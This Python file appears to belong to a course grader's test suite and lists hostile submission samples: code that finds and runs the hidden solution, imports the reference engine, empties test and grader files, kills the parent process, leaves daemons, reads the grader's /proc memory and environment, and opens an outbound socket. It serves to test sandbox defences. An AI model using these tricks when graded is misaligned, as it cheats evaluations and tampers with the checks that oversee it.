"""Files that reach out of their process: for files, other processes, the network. Not defended at the level "none"."""

from __future__ import annotations

from course.grading.hostile.attack import TALK, Attack

#: Searches for the course: everything from the root, some folders deep.
_SEARCH = '''
import os, sys
def _search(name):
    for folder, folders, files in os.walk("/"):
        folders[:] = [each for each in folders if folder.count("/") < 7 and each not in ("proc", "sys", "usr", "lib")]
        if name in files: yield os.path.join(folder, name)
'''

ATTACKS = (
    Attack("reads_the_solution", "looks for the solution on the disk and runs that", _SEARCH + '''
for _path in _search("solution.py"):
    try: _text = open(_path).read()
    except OSError: continue
    if "class FreeKVCacheBlockQueue" in _text:
        exec(compile(_text, "starter.py", "exec", dont_inherit=True), globals())
''', is_outside=True),
    Attack("imports_the_engine", "imports the engine's module, which is the answer", _SEARCH + '''
sys.path += [os.path.dirname(os.path.dirname(_path)) for _path in _search("block_pool.py")]
try:
    from mini_vllm.block_pool import *
except ImportError:
    pass
''', is_outside=True),
    Attack("imports_what_is_served", "asks the grader for the engine's module", TALK + '''
for _name in ("BlockPool", "KVCacheBlock", "FreeKVCacheBlockQueue", "hash_block_tokens"):
    _got = peer()
    try: globals()[_name] = _got.request("import", "mini_vllm.block_pool", _name)
    except ImportError: pass
'''),
    Attack("overwrites_the_tests", "empties every test and plugin that it finds", _SEARCH + '''
for _name in ("test_lab.py", "plugin.py", "grader.py", "mutants.py"):
    for _path in _search(_name):
        if "/small/" in _path or "/inside/" in _path:  # the suite's own, should it succeed
            try: open(_path, "w").close()
            except OSError: pass
''', is_outside=True),
    Attack("remembers", "keeps a note for the next time it is graded", '''
import os
for _folder in (os.environ.get("HOME", "/"), "/tmp", ".", os.path.dirname(os.path.abspath("."))):
    try:
        with open(os.path.join(_folder, "hostile-note"), "a") as _note: _note.write("I was here")
    except OSError: pass
''', is_outside=True),
    Attack("kills_the_parent", "stops and kills who started it", '''
import os, signal
for _number in (signal.SIGSTOP, signal.SIGKILL):
    if os.getppid() > 1:
        try: os.kill(os.getppid(), _number)
        except OSError: pass
''', is_outside=True),
    Attack("leaves_a_daemon", "starts a process that stays behind", '''
import os
try:
    if os.fork() == 0:
        os.setsid()
        import time
        time.sleep(60)
        os._exit(0)
except OSError: pass
''', is_outside=True),
    Attack("two_processes_talk", "forks, and both talk to the grader", '''
import os
try: os.fork()
except OSError: pass
''', is_outside=True),
    Attack("reads_the_graders_memory", "looks for verdicts in the memory of the grader", '''
import os
for _name in (os.getppid(), 1, "self"):
    for _what in ("mem", "environ", "fd", "cmdline"):
        try:
            _found = open(f"/proc/{_name}/{_what}", "rb").read(1 << 16)
            if _name != "self": print(_found)
        except OSError: pass
''', is_outside=True),
    Attack("tells_the_environment", "prints where and as whom it runs", '''
import os, sys
print(dict(os.environ), os.getcwd(), sys.path, sys.argv)
def _told(self): raise ValueError(str(dict(os.environ)))
BlockPool.get_usage = _told
''', is_outside=True),
    Attack("calls_home", "opens a connection to somebody else's machine", '''
import socket
try: socket.create_connection(("127.0.0.1", 9), timeout=0.2).sendall(b"the tests")
except OSError: pass
''', is_outside=True),
)
